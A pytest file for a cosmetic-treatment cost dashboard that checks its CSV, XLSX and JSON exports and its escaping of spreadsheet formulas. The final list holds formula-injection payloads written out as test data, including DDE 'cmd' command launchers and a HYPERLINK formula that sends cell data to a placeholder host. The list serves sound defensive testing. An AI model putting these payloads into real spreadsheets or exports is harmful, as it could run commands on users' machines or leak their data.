"""Exports: exact content, formula safety, numbers kept as numbers."""

import csv
import datetime as dt
import io
import json

import openpyxl
import openpyxl.utils
import pytest

from dashboard.formula import neutralise, starts_with_trigger
from dashboard.model.comparison import build_catalog, compare
from dashboard.model.filters import Filters
from dashboard.model.quote_costs import quotes_left_out
from dashboard.output.export import to_csv_bytes, to_json_bytes
from dashboard.output.quote_words import left_out_line
from dashboard.output.table import EXPORT_COLUMNS
from dashboard.output.xlsx import to_xlsx_bytes

TODAY = dt.date(2026, 11, 25)


def parse_csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def table_block(rows: list[list[str]]) -> list[list[str]]:
    start = next(i for i, r in enumerate(rows) if r and r[0] == "Option")
    end = next(i for i in range(start, len(rows)) if not rows[i])
    return rows[start:end]


def test_csv_has_settings_table_and_sources(small_dataset):
    comparison = compare(build_catalog(small_dataset), Filters(market="US", horizon=5, budget=5000))
    rows = parse_csv(to_csv_bytes(comparison, small_dataset, TODAY))
    assert rows[0] == ["Comparison", "Cosmetic treatment costs over time (not medical advice)"]
    assert rows[1] == ["Filters", "market US; horizon 5 years; budget 5,000 USD"]
    assert rows[2] == ["Exported", "2026-11-25 (UTC)"]
    assert rows[3] == ["Price years in the data", "2024-2024"]
    assert rows[5] == ["Prices in", "as published"]  # no index given to build_catalog
    assert rows[7] == ["Options over budget not shown", "1"]
    table = table_block(rows)
    assert table[0] == [h for _, h in EXPORT_COLUMNS]
    by_name = {r[0]: dict(zip(table[0], r, strict=True)) for r in table[1:]}
    assert set(by_name) == {"Hyaluronic-acid filler", "Botulinum toxin", "Microneedling"}
    filler = by_name["Hyaluronic-acid filler"]
    assert (filler["Total cost low"], filler["Total cost typical"], filler["Total cost high"]) == ("2000", "", "18000")
    assert filler["Total cost reads"] == "$2,000–$18,000"
    needling = by_name["Microneedling"]
    assert (needling["Total cost low"], needling["Total cost high"], needling["Total cost reads"]) == (
        "600",
        "",
        "at least $600",
    )
    assert "how often it must be repeated is not published" in needling["Budget fit reason"]
    assert "Whether and how often it must be repeated is not published" in needling["Missing inputs"]
    assert filler["Budget fit"] == "may fit" and filler["Price sources"] == "clinic-x"
    assert by_name["Botulinum toxin"]["Total cost low"] == ""  # unknown is empty, never 0
    sources_at = rows.index(["Sources"])
    assert rows[sources_at + 1] == ["id", "publisher", "title", "url", "year", "status"]
    assert {r[0] for r in rows[sources_at + 2 :]} == {"clinic-x", "nhs-botox", "nhs-fillers"}


def test_xlsx_reads_well_header_in_row_one_formats_frozen_filter_and_sheets(small_dataset):
    comparison = compare(build_catalog(small_dataset), Filters(market="US", horizon=5))
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(comparison, small_dataset, TODAY)))
    assert book.sheetnames == ["Comparison", "Settings", "Sources", "Quotes"]
    sheet = book["Comparison"]
    headers = [c.value for c in sheet[1]]
    assert headers == [h for _, h in EXPORT_COLUMNS]
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(headers))}{len(comparison.rows) + 1}"
    records = {r[0].value: dict(zip(headers, r, strict=True)) for r in sheet.iter_rows(min_row=2)}
    filler = records["Hyaluronic-acid filler"]
    assert filler["Total cost high"].value == 18000 and filler["Total cost high"].number_format == '"$"#,##0'
    assert filler["Sessions low"].number_format == "#,##0"
    rate = next(
        r["Major complication rate"] for r in records.values() if r["Major complication rate"].value is not None
    )
    assert rate.number_format == "0.0%"
    assert sheet.column_dimensions["A"].width >= len("Hyaluronic-acid filler")
    settings = {r[0].value: r[1].value for r in book["Settings"].iter_rows()}
    assert settings["Filters"] == "market US; horizon 5 years"
    assert book["Sources"]["A1"].value == "id"
    assert book["Quotes"]["A2"].value.startswith("No quotes were saved")


def test_xlsx_in_pounds_lists_quotes_and_notes_those_left_out(small_dataset):
    quotes = [
        {
            "id": "q1",
            "treatment_id": "ha-filler",
            "clinic": "Clinic A",
            "price": 900.0,
            "currency": "USD",
            "covers": "session",
            "quantity": 1,
            "date": "2026-01-02",
        },
        {
            "id": "q2",
            "treatment_id": "ha-filler",
            "clinic": "Clinic B",
            "price": 700.0,
            "currency": "GBP",
            "covers": "session",
            "quantity": 1,
            "date": "",
        },
    ]
    catalog = build_catalog(small_dataset)
    comparison = compare(catalog, Filters(market="US", horizon=5), quotes)
    names = {"ha-filler": "Hyaluronic-acid filler"}
    left_out = [left_out_line(q, names) for q in quotes_left_out(quotes, "US")]
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(comparison, small_dataset, TODAY, left_out, quotes)))
    rows = [[c.value for c in r] for r in book["Quotes"].iter_rows()]
    assert rows[0][:4] == ["Clinic", "Treatment", "Price", "Currency"]
    assert rows[1][0] == "Clinic A" and rows[1][2] == 900 and rows[1][-1] == "included"
    assert rows[2][0] == "Clinic B" and rows[2][-1] == "left out: currency is not the market's"
    settings = {r[0].value: r[1].value for r in book["Settings"].iter_rows()}
    assert (
        settings["Your quotes left out"]
        == "1 not in USD, the currency of this market: Clinic B (Hyaluronic-acid filler, 700.00 GBP)"
    )
    assert book["Comparison"]["A1"].value == "Option"  # the note is on Settings, the table still starts in row 1
    uk = compare(catalog, Filters(market="UK", horizon=5), quotes)
    uk_book = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(uk, small_dataset, TODAY)))
    cell = next(r[8] for r in uk_book["Comparison"].iter_rows(min_row=2) if r[8].value is not None)
    assert cell.number_format == '"£"#,##0'


def test_json_rows_match_the_csv_rows(small_dataset):
    comparison = compare(build_catalog(small_dataset), Filters(market="US", horizon=5, budget=5000))
    body = json.loads(to_json_bytes(comparison, small_dataset, TODAY))
    table = table_block(parse_csv(to_csv_bytes(comparison, small_dataset, TODAY)))
    assert [r["name"] for r in body["rows"]] == [r[0] for r in table[1:]]
    assert body["query"] == "horizon=5&budget=5000" and body["currency"] == "USD" and body["hidden_over_budget"] == 1
    filler = next(r for r in body["rows"] if r["name"] == "Hyaluronic-acid filler")
    assert filler["total_high"] == 18000 and filler["budget_fit"] == "may fit"
    botox = next(r for r in body["rows"] if r["name"] == "Botulinum toxin")
    assert botox["total_low"] is None  # unknown is null, never 0
    assert [c["key"] for c in body["columns"]] == [k for k, _ in EXPORT_COLUMNS]


PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "{=1+1}",
    "==== Sale ====",
    # issue 14, kind 7: invisible format characters (category Cf) before the formula
    "\u2060=1+1",
    "\u200d=1+1",
    "\u00ad=1+1",
    "\u2060\u200d \u00ad@SUM(1,1)",
    "\U000e0001+1+1",
    "\u3000=1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralise(payload):
    out = neutralise(payload)
    assert out == "'" + payload and not starts_with_trigger(out)
    assert neutralise(out) == out


@pytest.mark.parametrize("text", ["Botox", "'=1+1", "1-2 sessions", "", "a=b"])
def test_plain_text_is_unchanged(text):
    assert neutralise(text) == text
